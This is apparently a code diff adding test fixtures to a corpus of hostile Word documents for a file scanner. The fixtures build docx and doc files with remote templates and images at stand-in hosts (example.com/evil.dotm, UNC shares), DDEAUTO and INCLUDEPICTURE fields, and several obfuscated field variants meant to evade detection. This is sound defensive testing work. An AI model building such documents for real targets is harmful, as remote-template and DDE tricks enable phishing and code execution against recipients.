@@ -4,6 +4,7 @@ import {
   type CorpusEntry,
   concat,
   entry,
+  fetches,
   locked,
   megabyte,
   otherFiles,
@@ -19,6 +20,8 @@ import {
   contentTypes,
   documentXml,
   docxParts,
+  docxWith,
+  field,
   macroType,
   makeCompoundFile,
   makeDoc,
@@ -27,6 +30,13 @@ import {
   relationships,
 } from './word.ts';
 import { makeZip } from './zip.ts';
+
+/** More of the kind in `links.test.ts`. */
+const elsewhere = [
+  'https://example.com/evil.dotm',
+  '\\\\example.com\\share\\a.dotm',
+  'mhtml:https://example.com/a',
+];
 
 const macros = () => makeCompoundFile({ 'VBA/dir': Buffer.alloc(64), PROJECT: Buffer.from('ID=""') });
 
@@ -102,9 +112,94 @@ export const hostileWord: CorpusEntry[] = [
   entry('docm renamed', 'cv.docx', scripts, () =>
     makeZip([contentTypes(macroType), ...docxParts().slice(1)]),
   ),
-  entry('docx with a template from elsewhere', 'cv.docx', scripts, () =>
-    makeDocx(outsideRelationship('attachedTemplate', 'https://example.com/evil.dotm')),
+  ...elsewhere.flatMap((target) => [
+    entry(`docx with a template at ${target}`, 'cv.docx', fetches, () =>
+      makeDocx(outsideRelationship('attachedTemplate', target)),
+    ),
+    entry(`docx with a picture at ${target}`, 'cv.docx', fetches, () =>
+      makeDocx(outsideRelationship('image', target)),
+    ),
+    entry(`docx with a picture of VML at ${target}`, 'cv.docx', fetches, () =>
+      docxWith(`<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="${target}"/></w:pict>`),
+    ),
+  ]),
+  entry('docx with a picture on its author’s disk', 'cv.docx', fetches, () =>
+    makeDocx(outsideRelationship('image', 'file:///C:/Users/jane/a.png')),
   ),
+  ...elsewhere
+    .slice(1)
+    .flatMap((target) => [
+      entry(`docx with a link to ${target}`, 'cv.docx', fetches, () =>
+        makeDocx(outsideRelationship('hyperlink', target)),
+      ),
+      entry(`docx with a field that links to ${target}`, 'cv.docx', fetches, () =>
+        docxWith(field(`HYPERLINK \\o "See: this" "${target}"`)),
+      ),
+    ]),
+  entry('docx with a relationship that says it is inside', 'cv.docx', fetches, () => {
+    const { name, data } = outsideRelationship('image', '\\\\example.com\\a.png');
+    return makeDocx({ name, data: String(data).replace(' TargetMode="External"', '') });
+  }),
+  entry('docx with a base for its links on a server', 'cv.docx', fetches, () =>
+    makeZip([
+      contentTypes(
+        undefined,
+        '<Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>',
+      ),
+      ...docxParts({
+        name: 'docProps/app.xml',
+        data: '<Properties><HyperlinkBase>\\\\example.com\\</HyperlinkBase></Properties>',
+      }).slice(1),
+    ]),
+  ),
+  ...[
+    'DDEAUTO c:\\\\a "b"',
+    'dde a b',
+    'INCLUDEPICTURE "https://example.com/a.png" \\d',
+    'INCLUDETEXT a',
+    'LINK Excel.Sheet.8 a',
+    'IMPORT a',
+    'INCLUDE a',
+    'DATABASE \\d a',
+    'RD a',
+    'EMBED Package',
+    'PRINT 27',
+    'UNKNOWN',
+  ].flatMap((code) => [
+    entry(`docx with the field ${code}`, 'cv.docx', fetches, () => docxWith(field(` ${code} `))),
+    entry(`docx with the simple field ${code}`, 'cv.docx', fetches, () =>
+      docxWith(`<w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}"/>`),
+    ),
+  ]),
+  entry('docx with a field in pieces', 'cv.docx', fetches, () =>
+    docxWith(field('D', 'DEA', '<w:r><w:t>UTO</w:t></w:r>', ' a')),
+  ),
+  entry('docx with a field whose name is computed', 'cv.docx', fetches, () =>
+    docxWith(field(field('QUOTE 68 68 69'), ' a')),
+  ),
+  entry('docx with a field in a harmless field', 'cv.docx', fetches, () =>
+    docxWith(field('IF 1 = 1 ', field('DDEAUTO a'))),
+  ),
+  entry('docx with a field that does not end', 'cv.docx', fetches, () =>
+    docxWith(field('DDEAUTO a').split('</w:r>').slice(0, 2).join('</w:r>').concat('</w:r>')),
+  ),
+  entry('docx with a field in a header that is not called XML', 'cv.docx', fetches, () =>
+    makeZip([
+      contentTypes(
+        undefined,
+        '<Override PartName="/word/a.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>',
+      ),
+      ...docxParts({ name: 'word/a.dat', data: `<w:hdr xmlns:w="w">${field('DDEAUTO a')}</w:hdr>` }).slice(1),
+    ]),
+  ),
+  entry('docx with the addresses of a mail merge', 'cv.docx', fetches, () => docxWith('<w:mailMerge/>')),
+  ...['altChunk', 'subDoc', 'OLEObject', 'control'].map((element) =>
+    entry(`docx with ${element}`, 'cv.docx', otherFiles, () => docxWith(`<w:${element}/>`)),
+  ),
+  entry('docx with a page of another format inside', 'cv.docx', otherFiles, () => {
+    const { name, data } = outsideRelationship('aFChunk', 'a.mht');
+    return makeDocx({ name, data: String(data).replace(' TargetMode="External"', '') });
+  }),
   entry('docx with an object from elsewhere', 'cv.docx', otherFiles, () =>
     makeDocx(outsideRelationship('oleObject', 'https://example.com/evil')),
   ),
@@ -126,6 +221,15 @@ export const hostileWord: CorpusEntry[] = [
   entry('doc with an embedded object', 'cv.doc', otherFiles, () =>
     makeDoc({ 'ObjectPool/_1/\u0001Ole10Native': program() }),
   ),
+  ...[false, true].map((isWide) =>
+    entry(`doc with a field that fetches, in ${isWide ? 'UTF-16' : 'bytes'}`, 'cv.doc', fetches, () =>
+      makeDoc({}, { text: '\x13 DDEAUTO c:\\a "b" \x14x\x15', isWide }),
+    ),
+  ),
+  entry('doc with a template on a server', 'cv.doc', fetches, () =>
+    makeDoc({}, { template: '\\\\example.com\\share\\a.dot' }),
+  ),
+  entry('doc whose text is elsewhere', 'cv.doc', broken, () => makeDoc({}, { text: 'x'.repeat(5000) })),
   entry('doc with a password', 'cv.doc', locked, () => makeDoc({}, { flags: 0x0300 })),
   entry('docx with a password, as doc', 'cv.doc', locked, () =>
     makeCompoundFile({ EncryptedPackage: Buffer.alloc(4096), EncryptionInfo: Buffer.alloc(128) }),
